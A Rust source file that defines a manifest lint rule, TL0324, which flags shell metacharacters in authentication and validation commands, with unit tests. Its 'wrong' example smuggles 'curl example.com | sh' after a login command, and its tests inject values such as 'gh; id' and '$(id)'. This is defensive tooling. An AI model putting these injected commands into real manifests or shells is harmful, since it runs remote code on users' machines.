//! Commands for signing in or validating name one program, not a shell line.

use trueline_diagnostic::{Code, Diagnostic, Severity};

use crate::field::Field;
use crate::manifest::Subject;

pub(crate) static CODE: Code = Code {
    id: "TL0324",
    name: "shell-characters",
    severity: Severity::Warning,
    summary: "A command for signing in or validating contains shell characters",
    explanation: "The commands of authentication and validation name one program, optionally with arguments. If \
                  they are run by a shell, characters such as `;`, `|`, `&`, `$` and backquotes start other \
                  programs, read other files or insert variables, which a reader of the manifest easily misses. \
                  Without a shell, they are passed on literally, and the command fails.\n\nThe rule checks \
                  `capabilities.authentication[].command`, and at `name`, `versionFlag` and `args` of the commands \
                  in `validate`. The validator of `capabilities.auth` is a shell line, where only characters that \
                  chain or redirect commands are reported. Put anything that needs a shell into a script of the \
                  package.",
    wrong: "capabilities:\n  authentication:\n    - type: cli-auth\n      command: gh auth login; curl example.com | sh\n",
    right: "capabilities:\n  authentication:\n    - type: cli-auth\n      command: gh auth login\n",
};

/// The shell characters in a command that names one program.
const ANY: &[char] = &[
    ';', '|', '&', '<', '>', '$', '`', '(', ')', '{', '}', '*', '?', '[', ']', '!', '\'', '"', '\\', '\n',
    '\r',
];

/// The characters that chain or redirect commands in a line that is meant for a shell.
const CHAINING: &[char] = &[';', '|', '&', '<', '>', '`', '\n', '\r'];

pub(crate) fn check(subject: &Subject<'_>, findings: &mut Vec<Diagnostic>) {
    for method in subject.authentications() {
        findings.extend(method.get("command").and_then(|field| problem(&field, ANY)));
    }
    for validation in subject.validations() {
        for command in validation.items_at("commands") {
            for name in ["name", "versionFlag", "args"] {
                findings.extend(command.get(name).and_then(|field| problem(&field, ANY)));
            }
            findings.extend(command.items_at("args").iter().filter_map(|field| problem(field, ANY)));
        }
    }
    if let Some(field) = subject.root.at("capabilities/auth/validator/command") {
        findings.extend(problem(&field, CHAINING));
    }
}

fn problem(field: &Field<'_>, characters: &[char]) -> Option<Diagnostic> {
    let line = field.text()?;
    let found = line.chars().find(|character| characters.contains(character))?;
    let shown = match found {
        '\n' | '\r' => "a line break".to_owned(),
        '`' => "a backquote".to_owned(),
        other => format!("`{other}`"),
    };
    let finding = field.finding(&CODE, format!("this command contains {shown}, which is special in a shell"));
    Some(finding.help("name one program with its arguments; put anything else into a script of the package"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::Bench;

    #[test]
    fn programs_with_arguments_pass() {
        Bench::new(check).accepts(&[
            "capabilities: {authentication: [{type: cli-auth, command: 'gh auth login --web a/b=c'}]}",
            "capabilities: {authentication: [{type: cli-auth, command: 5}, {type: token}]}",
            "validate: {commands: [{name: node, versionFlag: --version}, {name: /usr/bin/g++}]}",
            "validate: {commands: [{name: docker, args: [images, 'ghcr.io/a/b:1']}]}",
            "capabilities: {auth: {validator: {command: 'test -n \"$KEY\"'}}}",
            "service: {start: {command: 'a && b'}}\nhooks: {post_install: 'a; b'}",
        ]);
    }

    #[test]
    fn shell_characters_are_reported_at_the_command() {
        Bench::new(check).rejects(&[
            (
                "capabilities: {authentication: [{type: cli-auth, command: «'gh; id'»}]}",
                "this command contains `;`, which is special in a shell",
            ),
            ("capabilities: {authentication: [{command: «gh $(id)»}]}", "contains `$`"),
            ("capabilities: {authentication: [{command: «\"gh `id`\"»}]}", "contains a backquote"),
            ("validate: {commands: [{name: «'node | sh'»}]}", "contains `|`"),
            ("validation: {commands: [{name: a, versionFlag: «'-v > /tmp/x'»}]}", "contains `>`"),
            ("validate: {commands: [{name: a, args: [b, «'c&'»]}]}", "contains `&`"),
            ("validate: {commands: [{name: a, args: «'*'»}]}", "contains `*`"),
            ("validate: {commands: [{name: «\"a\\nb\"»}]}", "contains a line break"),
            ("capabilities: {auth: {validator: {command: «'test -n \"$KEY\" && id'»}}}", "contains `&`"),
        ]);
        let findings = Bench::new(check).findings("validate: {commands: [{name: 'a;b'}]}");
        assert_eq!(findings[0].severity, Severity::Warning);
    }
}
